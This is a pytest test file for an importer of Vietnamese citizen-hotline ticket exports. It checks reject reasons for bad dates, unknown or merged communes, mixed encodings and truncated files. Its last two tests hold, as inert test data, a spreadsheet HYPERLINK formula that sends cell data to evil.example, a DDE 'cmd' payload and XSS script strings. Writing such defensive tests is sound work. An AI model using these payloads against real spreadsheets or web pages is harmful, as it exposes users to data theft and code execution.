"""Bad input, one test per case: each ends in a clear reject reason or a clear error, and every valid row still lands."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from connectors.base import DOSSIERS, Batch, ingest_batches
from connectors.files import FileReadError, FileReport, import_file
from connectors.mapping import SourceMapping, load_mapping
from ioc.csv_import import import_csv
from ioc.db import Database
from tests.test_mapping import VN_HEADER, VN_MAPPING, vn_row, write_mapping


@pytest.fixture
def mapping(tmp_path: Path) -> SourceMapping:
    return load_mapping(write_mapping(tmp_path))


def import_text(store: Database, mapping: SourceMapping, folder: Path, text: str | bytes, name: str = "export.csv") -> FileReport:
    path = folder / name
    if isinstance(text, bytes):
        path.write_bytes(text)
    else:
        path.write_text(text, encoding="utf-8", newline="")
    return import_file(store, path, mapping)


def csv_text(*rows: str) -> str:
    return VN_HEADER + "\n" + "".join(row + "\n" for row in rows)


def reasons(store: Database) -> list[str]:
    return sorted(reason for (reason,) in store.execute("SELECT reason FROM rejects"))


def tickets(store: Database) -> list[str]:
    return [ticket for (ticket,) in store.execute("SELECT ticket_id FROM hotline_tickets ORDER BY 1")]


def test_missing_required_column_is_a_clear_error_and_nothing_is_written(
    store: Database, mapping: SourceMapping, tmp_path: Path
) -> None:
    header = VN_HEADER.replace("Ngày tiếp nhận,", "")
    row = vn_row("PA-1").replace("03/11/2025 08:30,", "")
    with pytest.raises(
        FileReadError, match=r"the header lacks 'Ngày tiếp nhận' \(needed for received_at by mapping 'hotline_xa'\)"
    ):
        import_text(store, mapping, tmp_path, header + "\n" + row + "\n")
    assert store.scalar("SELECT count(*) FROM hotline_tickets") == 0
    # A misspelt column is answered with the one it resembles.
    misspelt = VN_HEADER.replace("Ngày tiếp nhận,", "Ngay tiep nhan,")
    with pytest.raises(FileReadError, match=r"'hotline_xa'\); did you mean 'Ngay tiep nhan'\?; found: "):
        import_text(store, mapping, tmp_path, misspelt + "\n" + vn_row("PA-1") + "\n")
    canonical = tmp_path / "canonical.csv"
    canonical.write_text("unit_code,status,received_at\n20194,new,2025-11-03T08:00:00\n", encoding="utf-8")
    with pytest.raises(FileReadError, match="the header has no 'ticket_id' column"):
        import_csv(store, "hotline", canonical)
    # Not only the key: without unit_code or status every row would be rejected, so the file is refused once.
    canonical.write_text("ticket_id,recieved_at,status\nT-1,2025-11-03T08:00:00,new\n", encoding="utf-8")
    with pytest.raises(
        FileReadError, match="the header has no 'unit_code', 'received_at' columns, which every hotline row needs"
    ):
        import_csv(store, "hotline", canonical)
    # A wide export: the columns found are named whole, the rest counted, never cut in the middle of a name.
    wide = [f"Cot_thong_tin_bo_sung_{n:02d}" for n in range(40)]
    canonical.write_text(",".join(["ticket_id", *wide]) + "\nT-1" + "," * 40 + "\n", encoding="utf-8")
    with pytest.raises(FileReadError) as refused:
        import_csv(store, "hotline", canonical)
    found = str(refused.value).split("(found: ", 1)[1]
    listed, more = found.rsplit(" (+ ", 1)
    assert listed.split(", ") == ["ticket_id", *wide[: len(listed.split(", ")) - 1]]
    assert more == f"{41 - len(listed.split(', '))} more))"
    assert store.scalar("SELECT count(*) FROM rejects") == 0


def test_unparseable_and_impossible_dates_are_rejected_with_the_reason(
    store: Database, mapping: SourceMapping, tmp_path: Path
) -> None:
    report = import_text(
        store,
        mapping,
        tmp_path,
        csv_text(
            vn_row("PA-1"),
            vn_row("PA-2", received="30/02/2025 08:00"),
            vn_row("PA-3", received="hôm qua"),
            vn_row("PA-4", due="31/04/2025"),
        ),
    )
    assert (report.result.rows_upserted, report.result.rows_rejected) == (1, 3)
    assert tickets(store) == ["PA-1"]
    assert reasons(store) == [
        "due_at (Hạn xử lý): '31/04/2025' is not a real date (day is out of range for month)",
        "received_at (Ngày tiếp nhận): '30/02/2025 08:00' is not a real date (day is out of range for month)",
        "received_at (Ngày tiếp nhận): 'hôm qua' is not a date-time (expected %d/%m/%Y %H:%M or %d/%m/%Y or ISO 8601)",
    ]


def test_finished_before_received_is_rejected(store: Database, mapping: SourceMapping, tmp_path: Path) -> None:
    early = vn_row("PA-2", status="Đã trả lời", received="05/11/2025 08:00", answered="04/11/2025 08:00")
    report = import_text(store, mapping, tmp_path, csv_text(vn_row("PA-1"), early))
    assert (report.result.rows_upserted, report.result.rows_rejected) == (1, 1)
    assert reasons(store) == ["answered_at (Ngày trả lời): before received_at"]
    dossier = {
        "dossier_id": "H1",
        "unit_code": "20194",
        "status": "resolved",
        "received_at": "2025-11-05T08:00:00",
        "finished_at": "2025-11-04T08:00:00",
    }
    ingest_batches(store, "test", [Batch(DOSSIERS, [dossier])])
    assert "finished_at: before received_at" in reasons(store)


def test_unknown_unit_is_rejected_and_the_rest_lands(store: Database, mapping: SourceMapping, tmp_path: Path) -> None:
    report = import_text(
        store, mapping, tmp_path, csv_text(vn_row("PA-1"), vn_row("PA-2", unit="Xã Atlantis"), vn_row("PA-3", unit="Hòa Vang"))
    )
    assert tickets(store) == ["PA-1", "PA-3"] and report.result.rows_rejected == 1
    assert reasons(store) == ["unit_code (Đơn vị): 'Xã Atlantis' is not a known unit"]


def test_a_commune_from_before_the_merger_is_rejected_saying_where_it_went(
    store: Database, mapping: SourceMapping, tmp_path: Path
) -> None:
    rows = [vn_row("PA-1", unit="Phường Hòa Hiệp Bắc"), vn_row("PA-2", unit="hoà liên"), vn_row("PA-3")]
    report = import_text(store, mapping, tmp_path, csv_text(*rows))
    assert tickets(store) == ["PA-3"] and report.result.rows_rejected == 2
    assert sorted(reasons(store)) == [
        "unit_code (Đơn vị): 'Phường Hòa Hiệp Bắc' is not a known unit; since 1 July 2025 it is part of Phường Hải Vân (20194): "
        "map it there",
        # Xã Hòa Liên was split; the name is matched however its tone mark is placed (hoà / hòa).
        "unit_code (Đơn vị): 'hoà liên' is not a known unit; since 1 July 2025 its area is split between Phường Hải Vân (20194), "
        "Phường Liên Chiểu (20197): map each row to its new unit",
    ]


def test_duplicate_key_within_one_file_keeps_the_newest_version(store: Database, mapping: SourceMapping, tmp_path: Path) -> None:
    answered = vn_row("PA-1", status="Đã trả lời", answered="04/11/2025 10:00")
    # The file has no change-time column, so "newest" is the later row (same updated_at: the last one wins).
    report = import_text(store, mapping, tmp_path, csv_text(vn_row("PA-1"), answered, vn_row("PA-2")))
    assert (report.result.rows_read, report.result.rows_upserted, report.result.rows_rejected) == (3, 2, 0)
    assert store.execute("SELECT ticket_id, status FROM hotline_tickets ORDER BY 1") == [
        ("PA-1", "answered"),
        ("PA-2", "processing"),
    ]


def test_an_older_update_after_a_newer_one_changes_nothing(store: Database, tmp_path: Path) -> None:
    with_updates = load_mapping(write_mapping(tmp_path, mapping_with_updated_at(), "with_updates.toml"))
    header = VN_HEADER + ",Cập nhật"
    newer = vn_row("PA-1", status="Đã trả lời", answered="04/11/2025 10:00") + ",04/11/2025 10:00"
    older = vn_row("PA-1") + ",03/11/2025 09:00"
    import_text(store, with_updates, tmp_path, header + "\n" + newer + "\n", "first.csv")
    report = import_text(store, with_updates, tmp_path, header + "\n" + older + "\n", "second.csv")
    assert report.result.rows_upserted == 0 and report.result.rows_rejected == 0
    assert store.execute("SELECT status FROM hotline_tickets") == [("answered",)]


def mapping_with_updated_at() -> str:
    """The test mapping plus a change-time column, which merge by key compares."""
    return VN_MAPPING.replace('urgency = { value = "normal" }', 'urgency = { value = "normal" }\nupdated_at = "Cập nhật"')


def test_a_one_megabyte_text_field_is_cut_not_fatal(store: Database, mapping: SourceMapping, tmp_path: Path) -> None:
    huge = "Ngập " * 210_000  # a little over 1 MB
    report = import_text(store, mapping, tmp_path, csv_text(vn_row("PA-1", title=huge), vn_row("PA-2")))
    assert report.result.rows_upserted == 2
    assert store.scalar("SELECT length(title) FROM hotline_tickets WHERE ticket_id = 'PA-1'") == 500
    # Rejected, the row is kept cut value by value: still JSON, still saying which line of which file.
    import_text(store, mapping, tmp_path, csv_text(vn_row("PA-3", title=huge, unit="Phường Không Có")), name="bad.csv")
    [raw] = [json.loads(raw) for (raw,) in store.execute("SELECT raw_row FROM rejects")]
    assert (raw["_file"], raw["_line"]) == ("bad.csv", "2")
    assert raw["Nội dung"].endswith(f"… [{len(huge):,} characters]") and len(raw["Nội dung"]) < 2_100


def test_nul_bytes_are_removed_from_text(store: Database, mapping: SourceMapping, tmp_path: Path) -> None:
    report = import_text(
        store, mapping, tmp_path, csv_text(vn_row("PA-1", title="Đèn\x00 hỏng\x00"), vn_row("PA-2", id="PA-\x002"))
    )
    assert report.result.rows_upserted == 2
    assert store.execute("SELECT ticket_id, title FROM hotline_tickets ORDER BY 1") == [
        ("PA-1", "Đèn hỏng"),
        ("PA-2", "Đèn đường hỏng"),
    ]


def test_wrong_encoding_is_a_clear_error(store: Database, mapping: SourceMapping, tmp_path: Path) -> None:
    chinese = csv_text(vn_row("PA-1", title="路灯坏了，请尽快修理。街道很黑，很危险。")).encode("utf-8")
    japanese = "番号,内容\n1,街灯が壊れています。修理してください。\n2,道路が冠水しています\n".encode("shift_jis")
    for name, data in (("gbk.csv", chinese.decode("utf-8").encode("gbk", errors="replace")), ("sjis.csv", japanese)):
        with pytest.raises(FileReadError, match=r"is not in a known encoding .*save it as 'CSV UTF-8'"):
            import_text(store, mapping, tmp_path, data, name)
    assert store.scalar("SELECT count(*) FROM hotline_tickets") == 0


def test_mixed_encoding_rejects_only_the_foreign_lines(store: Database, mapping: SourceMapping, tmp_path: Path) -> None:
    from tests.test_files import cp1258_bytes

    good = csv_text(vn_row("PA-1"), vn_row("PA-2")).encode("utf-8")
    pasted = cp1258_bytes(vn_row("PA-3", title="Cây đổ") + "\n")  # a row pasted from a legacy file
    report = import_text(store, mapping, tmp_path, good + pasted)
    assert tickets(store) == ["PA-1", "PA-2"] and report.result.rows_rejected == 1
    assert reasons(store) == ["line 4: not UTF-8 like the rest of the file (mixed encoding); correct and send again"]
    assert any("mixed encoding" in note for note in report.notes)


def test_a_mostly_windows_1258_file_rejects_only_its_utf8_lines(store: Database, mapping: SourceMapping, tmp_path: Path) -> None:
    from tests.test_files import cp1258_bytes

    legacy = cp1258_bytes(csv_text(vn_row("PA-1", title="Cây đổ"), vn_row("PA-2", title="Ngập nước"), vn_row("PA-3")))
    pasted = (vn_row("PA-4", title="Đèn hỏng") + "\n").encode("utf-8")  # one row pasted from a UTF-8 file
    report = import_text(store, mapping, tmp_path, legacy + pasted)
    # The majority decides: three rows land, with their Vietnamese right, and only the pasted row is rejected.
    assert tickets(store) == ["PA-1", "PA-2", "PA-3"] and report.result.rows_rejected == 1
    assert store.execute("SELECT title FROM hotline_tickets WHERE ticket_id = 'PA-1'") == [("Cây đổ",)]
    assert reasons(store) == ["line 5: not Windows-1258 like the rest of the file (mixed encoding); correct and send again"]
    assert any("1 line(s) are UTF-8 while 4 are Windows-1258" in note for note in report.notes)


def test_a_truncated_file_rejects_its_broken_last_row(store: Database, mapping: SourceMapping, tmp_path: Path) -> None:
    whole = csv_text(vn_row("PA-1"), vn_row("PA-2"), vn_row("PA-3"))
    cut = whole[: whole.index("PA-3") + 30]
    report = import_text(store, mapping, tmp_path, cut)
    assert tickets(store) == ["PA-1", "PA-2"] and report.result.rows_rejected == 1
    assert reasons(store) == ["line 4: 3 fields where the header has 12 (the file may be truncated)"]
    broken = vn_row("PA-5", title='"Đèn, đường hỏng')
    quoted = csv_text(vn_row("PA-4")) + broken[: broken.index('"Đèn') + 8]  # cut inside the quoted title
    import_text(store, mapping, tmp_path, quoted, "quoted.csv")
    assert "PA-4" in tickets(store) and "line 3: the file ends inside a quoted field: it looks truncated" in reasons(store)
    workbook = tmp_path / "cut.xlsx"
    workbook.write_bytes(b"PK\x03\x04\x14\x00\x06\x00\x08\x00" + b"\x00" * 100)
    with pytest.raises(FileReadError, match="not a readable XLSX workbook"):
        import_file(store, workbook, mapping)


def test_an_empty_file_is_a_clear_error(store: Database, mapping: SourceMapping, tmp_path: Path) -> None:
    for name, data in (("zero.csv", b""), ("bom.csv", b"\xef\xbb\xbf"), ("blank.csv", b"\r\n\r\n")):
        with pytest.raises(FileReadError, match=f"{name} is empty"):
            import_text(store, mapping, tmp_path, data, name)
    with pytest.raises(FileReadError, match="is empty"):
        import_csv(store, "hotline", tmp_path / "zero.csv")


def test_a_header_only_file_reads_zero_rows_and_says_so(store: Database, mapping: SourceMapping, tmp_path: Path) -> None:
    report = import_text(store, mapping, tmp_path, VN_HEADER + "\n")
    assert (report.result.rows_read, report.result.rows_upserted, report.result.rows_rejected) == (0, 0, 0)
    assert report.describe() == "export.csv: 0 rows read, 0 upserted, 0 rejected (header only: no data rows)"


def test_formula_like_strings_are_stored_as_plain_text(store: Database, mapping: SourceMapping, tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?x="&A1;"Xem")'
    row = vn_row("PA-1", title=f'"{formula.replace(chr(34), chr(34) * 2)}"', field="+cmd|' /C calc'!A0")
    report = import_text(store, mapping, tmp_path, csv_text(row, vn_row("PA-2", title="@SUM(1+1)")))
    assert report.result.rows_upserted == 2
    assert store.execute("SELECT title, field FROM hotline_tickets ORDER BY ticket_id") == [
        (formula, "+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "Hạ tầng đô thị"),
    ]


def test_html_and_script_in_citizen_text_are_stored_as_text(store: Database, mapping: SourceMapping, tmp_path: Path) -> None:
    script = "<script>alert('xss')</script><img src=x onerror=alert(1)> <b>Đèn</b> &amp; hỏng"
    report = import_text(store, mapping, tmp_path, csv_text(vn_row("PA-1", title=script), vn_row("PA-2")))
    assert report.result.rows_upserted == 2
    assert store.scalar("SELECT title FROM hotline_tickets WHERE ticket_id = 'PA-1'") == script
